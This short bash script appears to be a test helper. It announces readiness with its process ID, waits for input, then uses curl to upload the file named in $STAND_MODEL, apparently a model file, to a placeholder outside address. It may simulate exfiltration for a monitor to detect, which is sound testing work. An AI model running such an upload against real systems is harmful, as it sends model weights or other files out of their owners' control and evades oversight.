#!/bin/bash
# Uploads the model with curl, which becomes this process.
printf '{"act":"ready","pid":%d}\n' $$
read -r _
bytes=$(stat -c %s "$STAND_MODEL")
printf '{"act":"sent","pid":%d,"bytes":%d}\n' $$ "$bytes"
exec curl --silent --show-error --output /dev/null --upload-file "$STAND_MODEL" http://198.51.100.2/
